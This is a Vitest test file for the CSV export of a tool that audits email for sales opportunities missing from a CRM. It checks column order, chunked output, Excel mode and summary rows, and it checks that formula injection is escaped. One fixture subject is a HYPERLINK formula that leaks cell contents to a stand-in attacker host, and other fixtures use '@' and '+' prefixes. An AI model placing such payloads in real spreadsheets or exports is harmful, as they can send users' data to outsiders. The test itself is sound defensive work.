import { parse } from 'csv-parse/sync';
import { describe, expect, test } from 'vitest';
import {
  OPPORTUNITY_COLUMNS,
  SUMMARY_COLUMNS,
  renderOpportunitiesCsv,
  renderOpportunitiesCsvChunks,
  renderSummaryCsv,
} from '../../src/report/csv.js';
import { renderTerminal } from '../../src/report/terminal.js';
import type { AuditReport } from '../../src/report/schema.js';
import type { Opportunity } from '../../src/types.js';
import { buildSampleReport } from './sample-report.js';

const PLAIN = { delimiter: ',', excel: false };
const EXCEL = { delimiter: ',', excel: true };

type Row = Record<string, string>;

function parseCsv(text: string, delimiter = ','): Row[] {
  return parse(text, { columns: true, delimiter, bom: true }) as Row[];
}

function globexOpportunity(
  id: string,
  fields: { subject: string; from: string; snippet: string; value: number; quantity: number | null },
): Opportunity {
  return {
    id,
    category: id === 'opp-015a' ? 'expansion' : 'closing',
    account: 'Globex Logistics',
    owner: 'claire.besson@vendor.example',
    domain: 'globex.example',
    contacts: [fields.from.replace(/^.*<|>$/g, '')],
    firstSeen: '2026-12-02T08:00:00.000Z',
    lastSeen: '2026-12-02T08:00:00.000Z',
    outsidePeriod: false,
    quantity: fields.quantity,
    confidence: 0.85,
    crm: {
      status: 'covered',
      record: id === 'opp-015a' ? 'Globex - Fleet 2027' : 'Globex - Credit note',
      recordAmount: id === 'opp-015a' ? 9000 : -1500,
      recordCurrency: 'EUR',
      account: 'Globex Logistics',
      matchedBy: id === 'opp-015a' ? 'email' : 'domain',
      reason: 'open opportunity "Globex - Fleet 2027"',
      candidates: [],
    },
    estimatedValue: fields.value,
    sameLeadAs: null,
    referredCompany: null,
    evidence: [
      {
        messageId: `${id}@globex.example`,
        mailbox: 'inbox.mbox',
        file: 'inbox.mbox',
        date: '2026-12-02T08:00:00.000Z',
        from: fields.from,
        subject: fields.subject,
        rule: 'fr.test',
        snippet: fields.snippet,
        quantity: fields.quantity,
        confidence: 0.85,
        language: 'fr',
      },
    ],
  };
}

// The two messages of the formula-injection case, with the CRM amounts 9000
// and -1500 in estimated_value, the export's money column.
function buildInjectionReport(): AuditReport {
  return buildSampleReport({
    opportunities: [
      globexOpportunity('opp-015a', {
        subject: '=HYPERLINK("http://attacker.example/?leak="&A2;"Voir le devis")',
        from: 'Nadia Ferreira <nadia.ferreira@globex.example>',
        snippet: 'Nous validons 30 licences supplémentaires.',
        value: 9000,
        quantity: 30,
      }),
      globexOpportunity('opp-015b', {
        subject: '@Claire : renouvellement 2027 validé',
        from: '@SUM(1+1) Achats <achats@globex.example>',
        snippet: '+33 1 00 00 00 00',
        value: -1500,
        quantity: null,
      }),
    ],
  });
}

describe('opportunities csv formula escaping', () => {
  const rows = parseCsv(renderOpportunitiesCsv(buildInjectionReport(), PLAIN));
  const [first, second] = rows;

  test('hyperlink subject escaped', () => {
    expect(first?.first_evidence_subject).toBe(
      `'=HYPERLINK("http://attacker.example/?leak="&A2;"Voir le devis")`,
    );
  });

  test('at-sign subject escaped', () => {
    expect(second?.first_evidence_subject).toBe(`'@Claire : renouvellement 2027 validé`);
  });

  test('sender name escaped', () => {
    expect(second?.first_evidence_from).toBe(`'@SUM(1+1) Achats <achats@globex.example>`);
  });

  test('phone snippet escaped', () => {
    expect(second?.first_evidence_snippet).toBe(`'+33 1 00 00 00 00`);
  });

  test('positive amount numeric', () => {
    expect(first?.estimated_value).toBe('9000.00');
  });

  test('credit note numeric', () => {
    expect(second?.estimated_value).toBe('-1500.00');
  });

  test('crm amounts numeric', () => {
    expect(first?.crm_amount).toBe('9000.00');
    expect(second?.crm_amount).toBe('-1500.00');
    expect(second?.crm_currency).toBe('EUR');
  });

  test('plain text untouched', () => {
    expect(first?.first_evidence_snippet).toBe('Nous validons 30 licences supplémentaires.');
    expect(first?.account).toBe('Globex Logistics');
  });

  test('terminal shows original subject', () => {
    const text = renderTerminal(buildInjectionReport(), { color: false, verbose: false });
    expect(text).not.toContain(`'=HYPERLINK`);
  });
});

describe('opportunities csv columns', () => {
  const report = buildSampleReport();
  const rows = parseCsv(renderOpportunitiesCsv(report, PLAIN));

  test('header order', () => {
    const header = renderOpportunitiesCsv(report, PLAIN).split('\n')[0];
    expect(header).toBe(OPPORTUNITY_COLUMNS.join(','));
  });

  test('one row per opportunity', () => {
    expect(rows.map((row) => row.id)).toEqual(report.opportunities.map((o) => o.id));
  });

  test.each([
    ['id', 'opp-001'],
    ['category', 'expansion'],
    ['account', 'northwind.example'],
    ['domain', 'northwind.example'],
    ['contacts', 'anna.lindqvist@northwind.example'],
    ['owner', 'claire.martin@vendor.example'],
    ['first_seen', '2026-09-08T09:12:00.000Z'],
    ['last_seen', '2026-09-15T14:40:00.000Z'],
    ['quantity', '20'],
    ['confidence', '0.9'],
    ['crm_status', 'invisible'],
    ['crm_record', ''],
    ['matched_by', ''],
    ['reason', 'no CRM account matches the sender domain'],
    ['estimated_value', '1800.00'],
    ['currency', 'EUR'],
    ['evidence_count', '2'],
    ['first_evidence_date', '2026-09-08T09:12:00.000Z'],
    ['first_evidence_from', 'Anna Lindqvist <anna.lindqvist@northwind.example>'],
    ['first_evidence_subject', 'Re: seats for the Oslo team'],
    ['rule', 'en.expansion.more-seats'],
  ])('cell %s', (column, expected) => {
    expect(rows[0]?.[column]).toBe(expected);
  });

  test('custom delimiter', () => {
    const text = renderOpportunitiesCsv(report, { delimiter: '\t', excel: false });
    expect(parseCsv(text, '\t')[0]?.estimated_value).toBe('1800.00');
  });
});

describe('opportunities csv chunks', () => {
  const template = buildSampleReport().opportunities[0]!;
  const opportunities = Array.from({ length: 1203 }, (_, index) => ({ ...template, id: `opp-${index}` }));
  const report = buildSampleReport({ opportunities });

  test.each([
    ['plain', PLAIN],
    ['excel', EXCEL],
  ])('%s chunks hold one header and every row', (_, options) => {
    const chunks = [...renderOpportunitiesCsvChunks(report, options)];
    const text = chunks.join('');
    expect(chunks.length).toBeGreaterThan(2);
    expect(text).toBe(renderOpportunitiesCsv(report, options));
    expect(text.split('\ufeff').length - 1).toBe(options.excel ? 1 : 0);
    expect(text.split('\n').filter((line) => /^\ufeff?id[,;]category/.test(line)).length).toBe(1);
    const rows = parseCsv(text, options.excel ? ';' : ',');
    expect(rows.map((row) => row.id)).toEqual(opportunities.map((o) => o.id));
  });
});

describe('csv excel mode', () => {
  const report = buildInjectionReport();
  const text = renderOpportunitiesCsv(report, EXCEL);
  const rows = parseCsv(text, ';');

  test('starts with bom', () => {
    expect(text.startsWith('\uFEFF')).toBe(true);
  });

  test('semicolon header', () => {
    expect(text.slice(1).split('\n')[0]).toBe(OPPORTUNITY_COLUMNS.join(';'));
  });

  test('comma decimals', () => {
    expect(rows[1]?.estimated_value).toBe('-1500,00');
    expect(rows[0]?.confidence).toBe('0,85');
  });

  test('still escapes formulas', () => {
    expect(rows[1]?.first_evidence_subject).toBe(`'@Claire : renouvellement 2027 validé`);
  });

  test('delimiter option ignored', () => {
    expect(text.slice(1).split('\n')[0]).not.toContain(',');
  });
});

describe('summary csv', () => {
  const report = buildSampleReport();
  const rows = parseCsv(renderSummaryCsv(report, PLAIN));

  test('header order', () => {
    expect(renderSummaryCsv(report, PLAIN).split('\n')[0]).toBe(SUMMARY_COLUMNS.join(','));
  });

  test('category then owner rows', () => {
    expect(rows.map((row) => `${row.group}:${row.name}`)).toEqual([
      'category:expansion',
      'category:upgrade',
      'category:closing',
      'category:new-business',
      'category:referral',
      'category:churn-risk',
      'owner:(no owner)',
      'owner:claire.martin@vendor.example',
      'owner:tom.baker@vendor.example',
    ]);
  });

  test('expansion counts', () => {
    const row = rows[0];
    expect(row?.opportunities).toBe('2');
    expect(row?.invisible).toBe('2');
    expect(row?.estimated_value).toBe('4500.00');
  });

  test('owner amounts', () => {
    const tom = rows.find((row) => row.name === 'tom.baker@vendor.example');
    expect(tom?.opportunities).toBe('3');
    expect(tom?.estimated_value).toBe('14400.00');
    expect(tom?.invisible_estimated_value).toBe('2400.00');
  });

  test('churn risk kept out of pipeline value', () => {
    const churn = rows.find((row) => row.name === 'churn-risk');
    expect(Number(churn?.estimated_value)).toBeGreaterThan(0);
    expect(churn?.invisible_pipeline_value).toBe('0.00');
    expect(churn?.revenue_at_risk).toBe(churn?.estimated_value);
    const expansion = rows[0];
    expect(expansion?.invisible_pipeline_value).toBe(expansion?.invisible_estimated_value);
    expect(expansion?.revenue_at_risk).toBe('0.00');
  });

  test('counts match summary', () => {
    const categories = rows.filter((row) => row.group === 'category');
    const total = categories.reduce((sum, row) => sum + Number(row.invisible), 0);
    expect(total).toBe(report.summary.invisible);
  });
});
